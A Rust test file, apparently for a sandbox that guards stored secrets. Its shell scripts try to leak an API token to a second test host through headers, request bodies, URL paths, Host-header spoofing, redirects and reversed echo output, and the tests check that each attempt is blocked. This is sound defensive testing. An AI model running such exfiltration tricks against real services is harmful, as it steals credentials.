//! Code inside that wants a secret, or to use somebody else's account at its host.

use std::io::Write;
use std::process::Stdio;

use belljar_testkit::Who;
use belljar_testkit::twice::Check;

use crate::attacks::{in_the_open, paths, same};
use crate::told;
use crate::world::{NAME, OTHER, World};

pub const ALL: &[(&str, Check)] = &[
    ("no_other_account_is_used_at_a_host_with_a_secret", accounts),
    ("a_secret_does_not_come_back_in_any_later_answer", later),
    ("a_secret_goes_to_no_other_host_port_or_place", elsewhere),
    ("a_request_sends_no_secret_to_a_host_that_it_is_not_kept_for", sent_away),
    ("a_person_is_asked_about_a_host_that_has_a_secret", asked),
    ("queries_of_refused_requests_are_not_in_the_record", queries),
];

const VALUE: &str = "narwhal-in-the-cellar-0815";

fn with_secret(who: Who) -> Result<World, String> {
    let world = World::of(who)?;
    let host = format!("{NAME}:{}", world.https);
    let mut set = world.desk.project.command(["secret", "set", "API_TOKEN", "--host", &host]);
    let mut child = told(set.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn())?;
    told(child.stdin.take().ok_or("it has an input")?.write_all(VALUE.as_bytes()))?;
    let done = told(child.wait_with_output())?;
    if done.status.success() { Ok(world) } else { Err(String::from_utf8_lossy(&done.stderr).into_owned()) }
}

fn accounts(who: Who) -> Result<(), String> {
    let world = with_secret(who)?;
    let url = world.url("/echo");
    let script = format!(
        r#"
for header in "Authorization: Bearer attackers" "X-Api-Key: attackers" "X_Api_Key: attackers" "X-Shop-Access-Token: attackers" \
    "Cookie: session=attackers" "Authorization: Basic $(printf %s "$API_TOKEN:attackers-own-token" | base64 -w0)" \
    "Authorization: Basic $(printf %s "attackers_own_secret_key:$API_TOKEN" | base64 -w0)" \
    "Authorization: attackers_own_secret_key $API_TOKEN"; do
    curl -sS -m 10 -o /dev/null -w '%{{http_code}} ' -H "$header" '{url}'
done
curl -sS -m 10 -o /dev/null -w '%{{http_code}} ' '{url}?access_token=attackers'
curl -sS -m 10 -o /dev/null -w '%{{http_code}}\n' -H "Authorization: Basic $(printf %s "git:$API_TOKEN" | base64 -w0)" '{url}'
"#
    );
    let said = in_the_open(&world, &["--secret=API_TOKEN"], &["sh", "-c", &script])?;
    let arrived = world.arrived()?;
    same(format!("{arrived:?}").contains("attackers"), false, (&said, &arrived))?;
    // The one with a cookie, without it; and the one that is as it should be.
    same(arrived.len(), 2, (&said, &arrived))?;
    let basic = "Basic Z2l0Om5hcndoYWwtaW4tdGhlLWNlbGxhci0wODE1";
    same(arrived[1]["headers"]["authorization"].as_str(), Some(basic), &arrived)
}

fn later(who: Who) -> Result<(), String> {
    let world = with_secret(who)?;
    let (echo, last) = (world.url("/echo"), world.url("/last"));
    // Turned round: what is said is searched for the value, too, and that is not what is looked at here.
    let script = format!(
        "curl -sS -m 10 -o /dev/null -H \"X-Note: $API_TOKEN\" {echo}; curl -sS -m 10 {last} | rev; \
         curl -sS -m 10 -o /dev/null -H \"X-Note: $API_TOKEN\" {echo}; curl -sS -m 10 --compressed -r 0-400 {last} | rev"
    );
    let said = in_the_open(&world, &["--secret=API_TOKEN"], &["sh", "-c", &script])?;
    let out: String = String::from_utf8_lossy(&said.out).chars().rev().collect();
    same((out.matches("x-note").count(), out.contains(VALUE)), (2, false), &said)?;
    // The server has it, and told it.
    same(world.arrived()?[0]["headers"]["x-note"].as_str(), Some(VALUE), &said)
}

fn elsewhere(who: Who) -> Result<(), String> {
    let world = with_secret(who)?;
    let (https, http) = (world.https, world.http);
    let other = [
        format!("--allow-net={OTHER}:{http}"),
        format!("--allow-net={OTHER}:{https}"),
        "--secret=API_TOKEN".to_owned(),
    ];
    let more: Vec<&str> = other.iter().map(String::as_str).collect();
    let script = format!(
        r#"
send() {{ curl -ksS -m 10 -o /dev/null -w '%{{http_code}} ' "$@"; }}
send -H "X-Note: $API_TOKEN" https://{OTHER}:{https}/echo
send -H "X-Note: $API_TOKEN" http://{NAME}:{http}/echo
send -H "X-Note: $API_TOKEN" http://{OTHER}:{http}/echo
send -d "$API_TOKEN" https://{NAME}:{https}/echo
send "https://{NAME}:{https}/$API_TOKEN"
send -H "X-Note: $API_TOKEN" -H "Host: {OTHER}:{https}" https://{NAME}:{https}/echo
send -L -H "X-Note: $API_TOKEN" "https://{NAME}:{https}/redirect?https://{OTHER}:{https}/echo"
send -H "X-Note: $API_TOKEN" https://{NAME}:{https}/echo?right
"#
    );
    let said = in_the_open(&world, &more, &["sh", "-c", &script])?;
    let arrived = world.arrived()?;
    for one in &arrived {
        let right = format!("{NAME}:{https}");
        let has = one.to_string().contains(VALUE);
        same(has && one["headers"]["host"] != right.as_str(), false, (&said, one))?;
    }
    let right = arrived.iter().filter(|one| one["headers"]["x-note"] == VALUE).count();
    same(right, 2, (&said, &arrived))?;
    same(arrived.iter().any(|one| one["method"] == "POST" && one["body"] != 0), false, (&said, &arrived))
}

fn sent_away(who: Who) -> Result<(), String> {
    let world = with_secret(who)?;
    let open = [format!("--allow-net={OTHER}:{}", world.https), format!("--allow-net={NAME}:*")];
    let script = "for url in $URLS; do curl -sS -m 10 -H \"X-Note: $API_TOKEN\" $url; done";
    let urls = format!("--env=URLS=https://{OTHER}:{0}/echo https://{NAME}:{0}/echo", world.https);
    for (host, reached) in [
        (format!("{OTHER}:{}", world.https), 0),
        (format!("{NAME}:*"), 0),
        ("*.world.test:*".to_owned(), 0),
        (format!("{NAME}:{}", world.https), 1),
    ] {
        let secret = format!("--secret=API_TOKEN@{host}");
        let flags: Vec<&str> = open.iter().map(String::as_str).chain([secret.as_str(), urls.as_str()]).collect();
        let said = in_the_open(&world, &flags, &["sh", "-c", script])?;
        let with = world.arrived()?.iter().filter(|one| one.to_string().contains(VALUE)).count();
        same(with, reached, (host, &said))?;
    }
    Ok(())
}

fn asked(who: Who) -> Result<(), String> {
    let world = with_secret(who)?;
    let script = format!("curl -sS -m 20 -H \"X-Note: $API_TOKEN\" {}", world.url("/echo"));
    let flags = [format!("--allow-net=127.0.0.1:{}", world.https), "--secret=API_TOKEN".to_owned()];
    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
    for (list, reached) in [("ask", 0), ("allow", 1)] {
        let text = format!("[network]\n{list} = [\"{NAME}:{}\"]\n[approvals]\ntimeout = \"2s\"\n", world.https);
        world.desk.policy(&text)?;
        let said = world.run(&flags, &["sh", "-c", &script])?;
        same(world.arrived()?.len(), reached, (list, &said))?;
        same(said.code == Some(0), reached == 1, &said)?;
    }
    Ok(())
}

fn queries(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let (name, port) = (NAME, world.http);
    let text = format!(
        "[network]\nallow = [\"127.0.0.1:{port}\"]\n[[rule]]\nwhen = {{ host = \"{name}:{port}\", method = \"GET\", url = \"/echo\" }}\n\
         then = \"allow\"\nwhy = \"a test\"\n[[rule]]\nwhen = {{ host = \"{name}:{port}\", url = \"/bytes/*\" }}\nthen = \"deny\"\nwhy = \"a test\"\n"
    );
    world.desk.policy(&text)?;
    let at = |path: &str| format!("http://{name}:{port}{path}?key=not-for-the-record");
    let script = format!(
        "curl -sS -m 5 '{}'; curl -sS -m 5 '{}'; curl -sS -m 5 '{}'",
        at("/other"),
        at("/bytes/9"),
        at("/echo")
    );
    let said = world.run(&["--json"], &["sh", "-c", &script])?;
    same(paths(&world)?, vec!["/echo?key=not-for-the-record".to_owned()], &said)?;
    same(said.error.contains("not-for-the-record"), false, &said.error)?;
    let log = world.desk.expect(&["log", "--json"], 0, "")?;
    let text = String::from_utf8_lossy(&log.out).into_owned();
    // What was asked for is the command, which has it; what went out and what was refused has not.
    let lines = text.lines().filter(|line| {
        ["network.request", "network.answer", "run.ended"]
            .iter()
            .any(|kind| line.contains(&format!("\"type\":\"{kind}\"")))
    });
    let bad: Vec<&str> = lines.filter(|line| line.contains("not-for-the-record")).collect();
    same(bad.is_empty(), true, &bad)?;
    same(text.contains("/bytes/9") && text.contains("/other"), true, &text)
}
